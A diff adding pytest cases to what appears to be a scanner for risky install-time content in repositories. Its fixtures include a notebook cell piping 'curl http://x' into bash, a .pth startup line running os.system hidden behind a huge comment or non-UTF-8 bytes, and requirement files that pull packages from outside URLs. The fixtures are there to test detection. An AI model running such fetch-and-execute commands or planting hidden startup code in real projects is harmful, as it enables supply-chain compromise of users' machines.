@@ -43,3 +43,25 @@ def test_recipes_and_notebooks_are_notes(rules_of):
     cell = {"cells": [{"cell_type": "code", "source": ["!curl http://x | bash\n"]}]}
     assert "RGS-INS-005" in rules_of({"Makefile": "all:\n\tcurl x\n"})
     assert "RGS-INS-006" in rules_of({"a.ipynb": json.dumps(cell)})
+
+
+@pytest.mark.parametrize(
+    "content",
+    [b"#" * 70_000 + b"\nimport os; os.system('echo pwned')\n", b"# \xe9\nimport os; os.system('echo pwned')\n"],
+    ids=["a long comment before it", "no UTF-8"],
+)
+def test_a_startup_line_cannot_hide(rules_of, content):
+    assert "RGS-INS-001" in rules_of({"x.pth": content})
+
+
+@pytest.mark.parametrize(
+    ("file", "line"),
+    [
+        ("requirements.txt", "-r https://example.org/more.txt"),
+        ("conda.yaml", "dependencies:\n- pip:\n  - git+https://example.org/x\n"),
+        ("environment.yml", "dependencies:\n  - pip:\n      - --extra-index-url https://example.org/simple\n"),
+    ],
+)
+def test_other_ways_to_a_foreign_requirement(rules_of, file, line):
+    assert "RGS-INS-003" in rules_of({file: line})
+    assert "RGS-INS-003" not in rules_of({file: "dependencies:\n- python=3.11\n- pip:\n  - numpy==2.0\n"})
